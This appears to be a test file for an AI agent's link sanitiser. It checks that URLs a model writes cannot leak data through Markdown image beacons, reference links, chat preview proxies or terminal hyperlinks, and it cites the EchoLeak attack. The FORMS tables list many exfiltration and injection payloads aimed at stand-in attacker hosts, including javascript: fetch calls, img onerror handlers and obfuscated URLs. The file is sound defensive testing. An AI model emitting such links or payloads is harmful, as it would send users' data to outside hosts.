"""G14: no URL in any output has a host, a path or a query that the model wrote.

The forms follow published attacks: reference links and image beacons (EchoLeak, CVE-2025-32711), preview proxies of
chat clients, garak's web_injection probes, autolinks (GitHub-flavoured Markdown 6.9), Slack's mrkdwn, OSC 8.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Iterator
from itertools import product
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.grounding.claims import Dispute, Known, Said, ground, ground_disputes
from agent.links import strip
from agent.render import markdown, terminal
from agent.render.answer import answer
from agent.render.contract import as_json, as_yaml, contract
from agent.types import Diagnosis
from tests.render.build import diagnosis, evidence
from tools.types import Row

HOST, LEAK = "zq7host", "zq7leak"
"""Tokens that stand nowhere but in hosts, and in paths and queries, that the model writes."""
HOSTS = (
    f"{HOST}.example.com", f"{HOST}.io", f"a.b.{HOST}.co.uk", f"{HOST}.zip", f"{HOST}.xn--p1ai", f"{HOST}-ü.de",
    f"{HOST}.соm", f"{HOST}。com", f"{HOST}．com", f"{HOST}.com.", f"{HOST.upper()}.COM",
    f"{HOST}.attacker.workers.dev",
)  # fmt: skip
TARGETS = (
    "https://{h}/{p}?q={p}", "http://{h}/{p}", "HTTPS://{h}/{p}", "https:/{h}/{p}", "https:{h}/{p}",
    "https:\\\\{h}\\{p}",
    "//{h}/{p}", "\\\\{h}\\{p}", "{h}/{p}", "{h}", "{h}:8443/{p}", "www.{h}/{p}", "www2.{h}", "ftp://{h}/{p}",
    "ws://{h}/{p}", "file://{h}/{p}", "ssh://git@{h}/{p}", "slack://{h}/{p}", "vscode://{h}/{p}",
    "hxxps://{h}/{p}", "hxxp[:]//{h}/{p}", "https://user:{p}@{h}", "https://trusted.example@{h}/{p}",
    "mailto:{p}@{h}", "{p}@{h}", "xmpp:{p}@{h}", "tel:+49{p}", "javascript:fetch('//{h}/{p}')", "JaVaScRiPt:{p}",
    "data:text/html,{p}", "data:;base64,{p}", "vbscript:{p}", "https%3A%2F%2F{h}%2F{p}", "https&#58;&#47;&#47;{h}/{p}",
    "ht\u200btps://{h}/{p}", "htt\u00adps://{h}/{p}", "ｈｔｔｐｓ：／／{h}／{p}", "https://\u202e{h}/{p}",
    "https://{h}/\n{p}".replace("\n{p}", "{p}"), "http://{h}:80/{p}#{p}", "feed:https://{h}/{p}", "view-source:http://{h}",
)  # fmt: skip
NUMERIC = (
    "http://203.0.113.9/{p}", "203.0.113.9/{p}", "203.0.113.9:8080", "http://3405803785/{p}", "http://0xcb007109/{p}",
    "http://[2001:db8::1]/{p}", "[2001:db8::1]:443/{p}", "http://localhost:8000/{p}", "localhost:8000/{p}",
    "http://zq7host:9090/{p}", "zq7host:9090/{p}",
)  # fmt: skip
PROXIES = (
    "https://slack-imgs.com/?url=https://{h}/{p}", "https://www.google.com/url?q=https://{h}/{p}",
    "https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url=https%3A%2F%2F{h}%2F{p}&v=1",
    "https://camo.githubusercontent.com/{p}", "https://web.archive.org/save/http://{h}/{p}", "https://r.jina.ai/{h}/{p}",
)  # fmt: skip
WRAPPERS = (
    "{t}", "see {t}.", "({t})", "'{t}'", "`{t}`", "**{t}**", "seen,{t}", "url={t}", "[more]({t})", "![chart]({t})",
    '[more]({t} "title")', "[more][ref] [ref]: {t}", "[ref]: <{t}>", "[![x]({t})]({t})", "<{t}>", "<{t}|more>",
    '<a href="{t}">more</a>', "<img src={t}>", '<img src="{t}" onerror=alert(1)', "<iframe/src={t}>",
    "<meta http-equiv=refresh content='0;url={t}'>", "<svg><image href='{t}'/></svg>", "<@U0{p}> {t}", "<!channel> {t}",
    "\x1b]8;;{t}\x07more\x1b]8;;\x07", "\x1b]8;;{t}\x1b\\more\x1b]8;;\x1b\\", "| {t} | 3 |", "3 pods [E4]{t}",
    "{t}[E4]",
    "&lt;img src={t}&gt;", "{t}\u200b", "nvidia.com/gpu,{t}", "see:{t}", "more…{t}",
)  # fmt: skip
FORMS = tuple(
    dict.fromkeys(
        (
            *(
                w.format(t=t.format(h=HOSTS[0], p=LEAK), p=LEAK)
                for w, t in product(WRAPPERS, (*TARGETS[:10], *PROXIES))
            ),
            *(t.format(h=h, p=LEAK) for t, h in product(TARGETS, HOSTS)),
            *(w.format(t=t.format(p=LEAK), p=LEAK) for w, t in product(WRAPPERS[:12], NUMERIC)),
        )
    )
)
URL = re.compile(
    r"""(?ix)
    [a-z][a-z0-9+.-]*:(?://|\\\\)[^\s]+ | (?:javascript|data|vbscript|mailto|xmpp|tel):\S+ | (?<![:\w])//[\w\[]\S*
    | www\d?\.\S+ | [\w.+-]+@[\w-]+\.\S+ | \d{1,3}(?:\.\d{1,3}){3}\S*
    | \b[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|dev|de|uk|zip|ai|app|co|xyz|me|info|biz|eu|us|ru|cn|xn--\w+|соm)\b\S*
    """
)
MARKUP = re.compile(r"\]\(|<(?:a|img|iframe|svg|meta|@|!)\b|\x1b\]8")


def found(text: str) -> set[str]:
    """What a lenient reader of a text would take for a link: as it stands, and with every escape undone."""
    text = re.sub(r"\x1b\[[\d;]*m", "", text)  # colours, which are ours
    plain = html.unescape(unquote(re.sub(r"\\(?=[^\w\s])", "", text)))
    folded = unicodedata.normalize("NFKC", plain).replace("。", ".")
    return {match.group().rstrip("\"',}]") for form in (text, folded) for match in URL.finditer(form)}


def drawn(whole: Diagnosis) -> Iterator[str]:
    """Every form in which an answer leaves."""
    body = contract(whole, [evidence()])
    yield terminal.draw(answer(whole), width=2_000, color=False)
    yield terminal.draw(answer(whole), width=80, color=True)
    yield markdown.draw(answer(whole))
    yield as_json(body)
    yield as_yaml(body)


CHART = evidence(
    rows=(
        Row(
            key="search/chat-70b",
            namespace="search",
            data={
                "spec": {"value": 80, "image": "registry.example.com/serving/vllm:v1"},
                "metadata": {"annotations": {"docs": "https://docs.example.org/page", "see": "docs.example.net"}},
            },
        ),
    )
)
KNOWN = Known(causes=frozenset({"U13"}), found=frozenset({"U13"}))
OWN = {url for text in drawn(diagnosis()) for url in found(text)} | set(found(str(CHART.rows[0].data)))
"""What our own words and the quoted evidence hold that looks like a host."""


def said_by_model(text: str) -> Diagnosis:
    """An answer in every place of which a model has put its words."""
    says = [Said(text=f"The target is 80 and {text}", cites=("E4",)), Said(text=text, cites=("E4/search/chat-70b",))]
    disputed, _ = ground_disputes([Dispute(cause="U13", text=f"80 {text}", cites=("E4",))], lambda _: CHART, KNOWN)
    grounded = ground(says, lambda _: CHART, KNOWN)
    return diagnosis(
        explained=grounded.claims,
        disputed=disputed,
        notes=grounded.notes,
    )


def assert_clean(text: str) -> None:
    whole = said_by_model(text)
    for output in drawn(whole):
        links = {url for url in found(output) if not any(url.startswith(own) or own.startswith(url) for own in OWN)}
        assert not links, f"{text!r} left as {links}"
        assert not MARKUP.search(html.unescape(re.sub(r"\\[\[\]<(]", "", output)))


def test_the_finder_finds() -> None:
    plain = [form for form in FORMS if "://" in form and "\x1b" not in form and form.isascii()]
    assert len(FORMS) >= 200
    assert all(found(form) for form in plain)
    assert all(found(form) for form in (f"{HOST}.com", f"a@{HOST}.de", "10.0.0.1/x", "&#104;ttps://x.y"))


@pytest.mark.parametrize("part", range(2))
def test_no_form_of_a_link_leaves(part: int) -> None:
    for form in FORMS[part * 4 :: 8]:
        assert_clean(form)


def test_nothing_of_a_host_a_path_or_a_query_leaves() -> None:
    for form in FORMS:
        left, count = strip(form)
        assert count, form
        assert LEAK not in left.lower() or not found(left), form
        assert HOST not in unicodedata.normalize("NFKC", left).lower(), form


def test_a_link_in_evidence_makes_no_link_in_the_models_words() -> None:
    for text in ("docs: https://docs.example.org/page", "see docs.example.net", "docs.example.net/page"):
        assert all("docs.example" not in claim.text for claim in said_by_model(text).explained)
    kept = said_by_model("the image is registry.example.com/serving/vllm:v1").explained[0].text
    assert kept.endswith("the image is registry.example.com/serving/vllm:v1")
    assert_clean(
        f"the image is registry.example.com/serving/vllm:v1?{LEAK}".replace("registry.example.com", f"{HOST}.de")
    )
    for tail in ("?q=x", "#x", "/x", ":x@y", "%2fx", ",x", "&x"):
        text = said_by_model(f"registry.example.com/serving/vllm:v1{tail}").explained[0].text
        assert "registry" not in text, text


PIECES = st.lists(
    st.one_of(
        st.sampled_from(FORMS),
        st.sampled_from((*TARGETS, *PROXIES)).map(lambda t: t.format(h=HOSTS[1], p=LEAK)),
        st.sampled_from(
            ("https:", "//", ".", "com", "@", "<", ">", "](", "[x]", "[E4]", "\u200b", "%2e", "&#46;", ":", HOST)
        ),
        st.text(max_size=6),
    ),
    min_size=1,
    max_size=6,
)


@settings(max_examples=80)
@given(PIECES, st.sampled_from(("", " ", "\n", "\t", ",")))
def test_links_among_other_words(pieces: list[str], joint: str) -> None:
    assert_clean(joint.join(pieces))


@pytest.mark.prove
@settings(max_examples=6_000)
@given(PIECES, st.sampled_from(("", " ", "\n", "\t", ",")))
def test_links_among_other_words_in_full(pieces: list[str], joint: str) -> None:
    assert_clean(joint.join(pieces))


@pytest.mark.prove
def test_every_form_in_every_output() -> None:
    for form in FORMS:
        assert_clean(form)
